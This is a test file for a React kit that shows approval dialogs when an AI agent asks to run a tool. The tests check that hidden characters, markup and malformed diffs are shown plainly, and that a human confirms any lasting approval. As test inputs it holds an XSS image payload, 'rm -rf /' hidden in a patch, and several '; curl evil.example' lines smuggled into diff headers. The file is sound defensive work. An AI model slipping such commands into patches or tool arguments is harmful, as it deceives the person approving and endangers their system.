import { act, fireEvent, render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, test, vi } from "vitest";
import {
  createElicitationQueue,
  ElicitationCards,
  type ElicitationDialogProps,
  ElicitationHost,
} from "react-elicitation";
import { type ApprovalRequest, approvals } from "react-elicitation/approval";
import { approvalRequest } from "../support/approval-request.js";
import { person } from "../support/jsdom-person.js";
import { readyDialog } from "../support/person.js";
import { card, renderCard } from "../support/render-card.js";
import { renderDialog } from "../support/render-dialog.js";
import { server } from "../support/server.js";

const asApproval = { isApproval: true, approvals } as const;

async function show(request: unknown = approvalRequest, props: Partial<ElicitationDialogProps> = {}) {
  const { onResult } = renderDialog(request, { ...asApproval, ...props });
  const dialog = await readyDialog();
  return { onResult, dialog, answers: () => within(dialog).getByRole("group", { name: "Your decision" }) };
}

const namesIn = (part: HTMLElement): readonly (string | null)[] =>
  within(part)
    .getAllByRole("button")
    .map((button) => button.getAttribute("aria-labelledby") ?? button.textContent)
    .map((id) => (id && document.getElementById(id)?.textContent) || id);

/** The value of an argument, by its label. */
const valueOf = (part: HTMLElement, label: string): string | null => {
  const index = within(part)
    .getAllByRole("term")
    .findIndex(({ textContent }) => textContent === label);
  return within(part).getAllByRole("definition")[index]?.textContent ?? null;
};

const withArguments = (given: unknown): ApprovalRequest => ({ ...approvalRequest, arguments: given });

describe("what is shown", () => {
  test("is what is run, then the agent's words, then the answers as they are offered, none of them chosen", async () => {
    const { dialog, answers } = await show();

    expect(dialog).toHaveAccessibleName(`${server.name} wants to run a tool`);
    const tool = within(dialog).getByRole("group", { name: "Run command" });
    expect(valueOf(tool, "Command")).toBe("npm test -- --run src/alerts");
    const words = within(dialog).getByText("I’d like to run the tests.");
    expect(tool.compareDocumentPosition(words)).toBe(Node.DOCUMENT_POSITION_FOLLOWING);
    expect(words.compareDocumentPosition(answers())).toBe(Node.DOCUMENT_POSITION_FOLLOWING);
    expect(namesIn(answers())).toEqual(["Allow once", "Always allow…", "Deny", "Deny with a reason"]);
    expect(within(dialog).getByRole("heading", { level: 2 })).toHaveFocus();
  });

  test("has the titles and the order of the tool's schema", async () => {
    const { dialog } = await show({
      ...approvalRequest,
      arguments: { force: true, id: "n-1" },
      inputSchema: { properties: { id: { title: "Note" }, force: {} } },
    });

    expect(
      within(dialog)
        .getAllByRole("term")
        .map(({ textContent }) => textContent),
    ).toEqual(["Note", "Force"]);
  });

  test("has marks for the characters that nobody sees", async () => {
    const { dialog } = await show({
      ...withArguments({ command: "echo ok\u202e # hs", path: "/home/\u200bada", "pa\u200bth": "/" }),
      tool: { name: "delete\u00ad_note" },
    });

    expect(within(dialog).getByRole("group", { name: "deleteU+00AD_note" })).toBeInTheDocument();
    expect(valueOf(dialog, "Command")).toBe("echo okU+202E # hs");
    expect(valueOf(dialog, "Path")).toBe("/home/U+200Bada");
    expect(valueOf(dialog, "paU+200Bth")).toBe("/");
  });

  test("10. is text and no markup, whatever the agent writes", async () => {
    const markup = "<img src=x onerror=alert(1)>[a](https://a.example)";
    const { dialog } = await show({
      ...withArguments({ to: markup }),
      tool: { name: "a", title: markup },
      message: markup,
      options: [{ id: "a", decision: "allow", label: markup, description: markup }],
    });

    expect(valueOf(dialog, "To")).toBe(markup);
    expect(dialog.querySelectorAll("a, [onerror]")).toHaveLength(0);
  });

  test("is a difference, drawn where its lines are what its heads say", async () => {
    const patch = "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n Milk\n-Eggs\n+Six eggs\n";
    const { dialog } = await show(withArguments({ patch }));

    expect(within(dialog).getByText("1 line added, 1 removed")).toBeInTheDocument();
    expect(dialog.querySelector("[data-change=added]")).toHaveTextContent("Added:Six eggs");
  });

  test.each([
    ["a line more than its head says", "--- a/a\n+++ b/a\n@@ -1,1 +1,1 @@\n-a\n+b\n+c\n"],
    ["a line less", "--- a/a\n+++ b/a\n@@ -1,2 +1,1 @@\n-a\n+b\n"],
    ["something that is no difference", "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+b\nrm -rf /\n"],
    ["a hunk out of order", "--- a/a\n+++ b/a\n@@ -9 +9 @@\n-a\n+b\n@@ -1 +1 @@\n-a\n+b\n"],
  ])("is text where a difference has %s", async (_, patch) => {
    const { dialog } = await show(withArguments({ patch }));

    expect(dialog.querySelector("[data-change]")).toBeNull();
    expect(valueOf(dialog, "Patch")).toBe(patch);
  });

  test("is what changes between two texts of a file", async () => {
    const { dialog } = await show({
      ...approvalRequest,
      changes: [{ path: "notes/1.md", oldText: "Milk\nEggs\n", newText: "Milk\nSix eggs\nBread\n" }],
    });

    expect(Array.from(dialog.querySelectorAll("[data-change]"), ({ textContent }) => textContent?.trim())).toEqual([
      "Milk",
      "−Removed:Eggs",
      "+Added:Six eggs",
      "+Added:Bread",
    ]);
  });

  test("says what the agent's words for an answer mean", async () => {
    const options = [
      { id: "a", decision: "allow", lasts: "always", label: "Deny" },
      { id: "b", decision: "deny", label: "Allow" },
    ];
    const { answers } = await show({ ...approvalRequest, options });

    expect(within(answers()).getByRole("button", { name: "Deny…" })).toHaveAccessibleDescription(
      "Allows this and later calls",
    );
    expect(within(answers()).getByRole("button", { name: "Allow" })).toHaveAccessibleDescription(
      "Denies this call only",
    );
  });
});

describe("what is drawn as a difference hides nothing", () => {
  test.each([
    ["a line of git", "diff --git a b; curl evil.example\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"],
    ["a line of an index", "index 0..; curl evil.example\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"],
    ["the head of a hunk", "--- a/x\n+++ b/x\n@@ -1 +1 @@ ; curl evil.example\n-a\n+b\n"],
    ["the date of a file", "--- a/x\t; curl evil.example\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"],
    ["a hunk without lines", "--- a/x\n+++ b/x\n@@ -1,0 +1,0 @@ ; curl evil.example\n"],
  ])("in %s", async (_, text) => {
    renderDialog({ ...approvalRequest, arguments: { text } }, { isApproval: true, approvals });
    const dialog = await readyDialog();

    expect(dialog).toHaveTextContent("curl evil.example");
  });

  test("not even in a command that is one", async () => {
    const command = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b";
    renderDialog({ ...approvalRequest, arguments: { command } }, { isApproval: true, approvals });
    const dialog = await readyDialog();

    expect(dialog).toHaveTextContent("--- a/x");
  });
});

test("an option that covers more than anybody reads before confirming it is not offered", () => {
  const covers = Array.from({ length: 90 }, (_, index) => `rule ${index} ${"x".repeat(100)}`);
  const { options } = approvalRequest;

  expect(
    approvals.read({
      ...approvalRequest,
      options: [...options, { id: "a", decision: "allow", lasts: "always", covers }],
    }),
  ).toMatchObject({ approval: { options: [{ id: "once" }, { id: "always" }, { id: "no" }] } });
});

test("an option that lasts in a way that is not known is not offered", async () => {
  const options = [
    { id: "project", decision: "allow", lasts: "project", label: "Allow in this project" },
    { id: "no", decision: "deny" },
  ];
  renderDialog({ ...approvalRequest, options }, { isApproval: true, approvals });
  await readyDialog();

  expect(screen.queryByRole("button", { name: /Allow/ })).not.toBeInTheDocument();
});

describe("what cannot be allowed", () => {
  test.each([
    ["arguments that are too long", { ...approvalRequest, arguments: { text: "x".repeat(300_000) } }],
    [
      "more files than anybody reads",
      { ...approvalRequest, changes: Array.from({ length: 500 }, () => ({ path: "a", newText: "b" })) },
    ],
    ["more hidden characters than anybody reads", withArguments({ a: "\u200b".repeat(100_000), b: "\u200b" })],
    ["values in values in values", withArguments({ a: JSON.parse("[".repeat(5000) + "]".repeat(5000)) as unknown })],
    ["a name of an argument that is too long", withArguments({ ["x".repeat(500)]: "/" })],
    [
      "more arguments than anybody reads",
      withArguments(Object.fromEntries(Array.from({ length: 500 }, (_, n) => [`a${n}`, n]))),
    ],
    ["a change of a file without a path", { ...approvalRequest, changes: [{ newText: "b" }] }],
    ["a change that does not say to what", { ...approvalRequest, changes: [{ path: "a", oldText: "b" }] }],
    ["a change of what nobody can read", { ...approvalRequest, changes: [{ path: "a", oldText: 7, newText: "b" }] }],
    ["what no JSON carries", withArguments({ amount: 10n ** 20n })],
    ["what is another value in JSON", withArguments({ until: { toJSON: () => "never" }, since: new Date(0) })],
    [
      "what cannot be read",
      {
        ...approvalRequest,
        get arguments(): unknown {
          throw new Error("no");
        },
      },
    ],
  ])("%s: only denying acts, and it is said why", async (_, request) => {
    const { dialog, answers } = await show(request);

    expect(namesIn(answers())).toEqual(["Deny", "Deny with a reason"]);
    expect(dialog).toHaveTextContent(`You can’t answer ${server.name} here.`);
  });

  test("a tool without a name can only be declined", async () => {
    const { dialog } = await show({ ...approvalRequest, tool: { name: " " } });

    expect(namesIn(dialog)).toEqual(["Close without answering", "Decline"]);
  });

  test("options that share an id are not offered", async () => {
    const options = [
      { id: "a", decision: "allow" },
      { id: "a", decision: "allow", lasts: "always" },
      { id: "no", decision: "deny" },
    ];
    const { answers } = await show({ ...approvalRequest, options });

    expect(namesIn(answers())).toEqual(["Deny", "Deny with a reason"]);
  });

  test("where the agent offers no refusal, the kit's own is there", async () => {
    const { onResult } = await show({ ...approvalRequest, options: [{ id: "a", decision: "allow" }] });

    await person.pressButton("Deny");

    expect(onResult.mock.calls).toEqual([[{ action: "decline" }]]);
  });

  test("a host without approvals shows nothing to allow, and reads what is missing", async () => {
    const error = vi.spyOn(console, "error").mockReturnValue();
    const { dialog } = await show(approvalRequest, { approvals: undefined });

    expect(namesIn(dialog)).toEqual(["Close without answering", "Decline"]);
    expect(error.mock.calls.flat().join("\n")).toContain("approvals={approvals}");
  });

  test("what a server sends never becomes a request to run a tool", async () => {
    const { dialog } = await show({ ...approvalRequest, mode: "approval" }, { isApproval: undefined });

    expect(namesIn(dialog)).toEqual(["Close without answering", "Decline"]);
  });
});

describe("what is answered", () => {
  test("is the option that was pressed", async () => {
    const { onResult } = await show();

    await person.pressButton("Allow once");

    expect(onResult.mock.calls).toEqual([[{ action: "accept", content: { option: "once" } }]]);
  });

  test("is decline for the refusal of this call", async () => {
    const { onResult } = await show();

    await person.pressButton("Deny");

    expect(onResult.mock.calls).toEqual([[{ action: "decline" }]]);
  });

  test("is one that lasts only after it was confirmed with what it covers", async () => {
    const { onResult, dialog } = await show();

    await person.pressButton("Always allow…");

    expect(onResult).not.toHaveBeenCalled();
    const question = within(dialog).getByRole("group", { name: "Always allow Run command" });
    expect(question).toHaveTextContent("Later calls like these may run without asking you:");
    expect(within(question).getByRole("listitem")).toHaveTextContent("run_command(npm test:*)");
    await person.pressButton("Always allow Run command");
    expect(onResult.mock.calls).toEqual([[{ action: "accept", content: { option: "always" } }]]);
  });

  test("says so where it is not known what a lasting one covers", async () => {
    const { dialog } = await show({ ...approvalRequest, options: [{ id: "a", decision: "allow", lasts: "session" }] });

    await person.pressButton("Allow for this session…");

    expect(within(dialog).getByRole("group", { name: "Allow Run command for this session" })).toHaveTextContent(
      "Until this session ends, later calls may run without asking you, whatever their arguments.",
    );
  });

  test("is confirmed on a button in the kit's words, whatever the agent calls it", async () => {
    const { onResult } = await show({
      ...approvalRequest,
      options: [{ id: "a", decision: "allow", lasts: "always", label: "Deny" }],
    });
    await person.pressButton("Deny…");

    await person.pressButton("Always allow Run command");

    expect(onResult.mock.calls).toEqual([[{ action: "accept", content: { option: "a" } }]]);
  });

  test("is none where the second press of a double one lands on what confirms", async () => {
    const { onResult } = await show(approvalRequest, { activationDelay: 500 });

    // In one turn of the event loop, because on a busy machine two presses may be further apart than the delay.
    for (const name of ["Always allow…", "Always allow Run command"]) {
      const button = screen.getByRole("button", { name });
      fireEvent.pointerDown(button);
      fireEvent.click(button, { detail: 1 });
    }

    await act(async () => undefined);
    expect(onResult).not.toHaveBeenCalled();
  });

  test("is none after Back, which returns focus to the answer", async () => {
    const { onResult, answers } = await show();
    await person.pressButton("Always allow…");

    await person.pressButton("Back");

    expect(onResult).not.toHaveBeenCalled();
    expect(within(answers()).getByRole("button", { name: "Always allow…" })).toHaveFocus();
  });

  test("is a denial with its reason", async () => {
    const { onResult } = await show();
    await person.pressButton("Deny with a reason");
    await person.type("Reason optional", "Push to a branch instead");

    await person.pressButton("Deny");

    expect(onResult.mock.calls).toEqual([
      [{ action: "accept", content: { option: "no", reason: "Push to a branch instead" } }],
    ]);
  });

  test("is nothing while a reason that was typed would be lost", async () => {
    const { onResult } = await show();
    await person.pressButton("Deny with a reason");
    await person.type("Reason optional", "Not yet");

    await person.press("cancel");

    expect(onResult).not.toHaveBeenCalled();
    await person.discard();
    expect(onResult.mock.calls).toEqual([[{ action: "cancel" }]]);
  });
});

describe("keys", () => {
  test("from 1 to 9 move focus, and answer nothing", async () => {
    const { onResult, answers } = await show();

    await userEvent.keyboard("1");
    expect(within(answers()).getByRole("button", { name: "Allow once" })).toHaveFocus();
    await userEvent.keyboard("2");

    expect(within(answers()).getByRole("button", { name: "Always allow…" })).toHaveFocus();
    expect(onResult).not.toHaveBeenCalled();
  });

  test("allow only on the answer itself: Enter on it, and not on the title", async () => {
    const { onResult } = await show();

    await userEvent.keyboard("{Enter}");
    expect(onResult).not.toHaveBeenCalled();
    await userEvent.keyboard("1{Enter}");

    expect(onResult.mock.calls).toEqual([[{ action: "accept", content: { option: "once" } }]]);
  });

  test("typed in one go for something else allow nothing, because the guard begins anew", async () => {
    const { onResult, dialog } = await show(approvalRequest, { activationDelay: 500 });

    await userEvent.keyboard("1{Enter}");

    expect(dialog).not.toHaveAttribute("data-ready");
    expect(onResult).not.toHaveBeenCalled();
  });

  test("go back with Escape from what is asked before an answer, and only then close the request", async () => {
    const { onResult, answers } = await show();
    await person.pressButton("Always allow…");

    await userEvent.keyboard("{Escape}");

    expect(within(answers()).getByRole("button", { name: "Always allow…" })).toHaveFocus();
    expect(onResult).not.toHaveBeenCalled();
    await userEvent.keyboard("{Escape}");
    expect(onResult.mock.calls).toEqual([[{ action: "cancel" }]]);
  });

  test("do nothing where the host has turned them off", async () => {
    const { answers } = await show(approvalRequest, { numberKeys: false });

    await userEvent.keyboard("1");

    expect(answers()).not.toContainElement(document.activeElement as HTMLElement);
  });
});

test("folded to one line in the dock, it says who asks and for which tool", async () => {
  const queue = createElicitationQueue();
  render(
    <ElicitationHost queue={queue} placement="dock" approvals={approvals} activationDelay={0} waitForTyping={0} />,
  );
  act(() => void queue.elicit(approvalRequest, { server, isApproval: true }));
  await userEvent.click(await screen.findByRole("button", { name: "Collapse" }));

  const bar = document.querySelector(".elicit-bar");
  expect(bar).toHaveTextContent(`${server.name} wants to run a tool`);
  expect(bar).toHaveTextContent("Run command");
});

describe("what stays", () => {
  test.each([
    ["Allow once", "You allowed Run command once"],
    ["Deny", "You denied Run command"],
  ])("after %s is one line", async (answer, line) => {
    renderCard(approvalRequest, asApproval);
    const shown = await card(`${server.name} wants to run a tool`);
    await waitFor(() => expect(shown).toHaveAttribute("data-ready"));

    await userEvent.click(within(shown).getByRole("button", { name: answer }));

    expect(shown.querySelector(".elicit-once")).toHaveTextContent(new RegExp(`^${line}$`));
  });

  test("in the history has the decision and no arguments, and is shown again after it was stored", async () => {
    const [queue, later] = [createElicitationQueue(), createElicitationQueue()];
    const shown = (of: typeof queue) => (
      <>
        <ElicitationCards queue={of} call="call-1" {...asHost} />
        <ElicitationHost queue={of} {...asHost} />
      </>
    );
    const asHost = { approvals, activationDelay: 0, waitForTyping: 0 };
    const { unmount } = render(shown(queue));
    act(() => void queue.elicit(approvalRequest, { server, isApproval: true, callId: "call-1" }));
    const answer = await screen.findByRole("button", { name: "Allow once" });
    await waitFor(() => expect(document.querySelector("[data-ready]")).not.toBeNull());
    await userEvent.click(answer);
    await screen.findByText(/^You allowed/);
    const stored = JSON.stringify(queue.getSnapshot().history);
    unmount();

    render(shown(later));
    act(() => later.restore(JSON.parse(stored)));

    expect(await screen.findByText(/^You allowed/)).toBeInTheDocument();
    expect(stored).not.toContain("npm test --");
  });
});

test("in another language, the words that are left in English are marked", async () => {
  const { dialog, answers } = await show(approvalRequest, {
    locale: "de",
    messages: { approvalTitle: ({ server: name }) => `${name} will ein Werkzeug ausführen` },
  });

  expect(dialog).toHaveAccessibleName(`${server.name} will ein Werkzeug ausführen`);
  expect(within(answers()).getByText("Allow once")).toHaveAttribute("lang", "en");
});
